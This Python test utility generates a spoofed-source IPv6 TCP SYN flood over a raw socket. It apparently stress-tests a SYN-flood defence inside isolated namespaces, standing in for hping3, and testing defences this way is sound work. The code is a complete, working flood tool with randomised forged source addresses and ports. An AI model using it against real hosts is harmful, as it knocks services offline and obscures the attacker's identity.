#!/usr/bin/env python3
"""synflood6.py — a spoofed-source IPv6 SYN flood for the e2e tests (hping3 has no IPv6).

  synflood6.py IFACE --dst ADDR --dport PORT --seconds S [--count N]
               [--src-prefix PREFIX] [--frames K]

Builds K packets up front, each a bare TCP SYN (no options, as hping3 -S
sends) to ADDR:PORT from a random address inside PREFIX and a random port,
with a right checksum, then sends them round and round out of IFACE until
about S seconds or N packets, whichever comes first: a stateless defender
cannot tell a cycle of K sources from a fresh random one each time, and the
sending loop stays a bare sendto(). Through a raw socket that includes the IPv6
header (IPPROTO_RAW): the kernel's path of hping3's raw IPv4 socket, so both
floods reach comparable rates (measured: 1 to 1.4 times hping3's; an AF_PACKET
socket sent two to three times faster and made the IPv6 run the harsher). Prints
"sent N packets in S s (R/s)". Run only inside a test's own namespaces
(lib.sh's flood_start).
"""
import argparse
import errno
import ipaddress
import itertools
import random
import socket
import struct
import sys
import time

from craft import csum

SYN = 0x02


def syn_packet(a, src, sport):
    # Bare 20-byte header, window 64240: what hping3 -S sends, over IPv6.
    tcp = struct.pack("!HHIIBBHHH", sport, a.dport, random.getrandbits(32), 0, 5 << 4, SYN, 64240, 0, 0)
    pseudo = src.packed + a.dst.packed + struct.pack("!IxxxB", len(tcp), socket.IPPROTO_TCP)
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    return struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + src.packed + a.dst.packed + tcp


def random_host(net):
    return net[random.getrandbits(net.max_prefixlen - net.prefixlen)]


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("iface")
    p.add_argument("--dst", required=True, type=ipaddress.IPv6Address)
    p.add_argument("--dport", required=True, type=int)
    p.add_argument("--seconds", required=True, type=float)
    p.add_argument("--count", type=int, default=10_000_000)
    p.add_argument("--src-prefix", type=ipaddress.IPv6Network, default=ipaddress.IPv6Network("2001:db8::/32"))
    p.add_argument("--frames", type=int, default=4096)
    a = p.parse_args()

    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, a.iface.encode())
    packets = [syn_packet(a, random_host(a.src_prefix), random.randint(1024, 65535)) for _ in range(a.frames)]
    # The clock is read between batches of 256.
    batches = [packets[i : i + 256] for i in range(0, len(packets), 256)]

    sendto, dst, sent, refused = sock.sendto, (str(a.dst), 0), 0, 0
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    try:
        for batch in itertools.cycle(batches):
            if sent + refused >= a.count or time.monotonic() >= deadline:
                break
            for packet in batch[: a.count - sent - refused]:  # the count bound is exact
                try:
                    sendto(packet, dst)
                    sent += 1
                except OSError as e:  # the peer's backlog is full: a drop on the wire
                    if e.errno != errno.ENOBUFS:
                        raise
                    refused += 1
    except KeyboardInterrupt:  # timeout -s INT, as for hping3
        pass
    dt = time.monotonic() - t0
    print(f"sent {sent} packets in {dt:.1f} s ({sent / dt:.0f}/s), {refused} refused (ENOBUFS)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
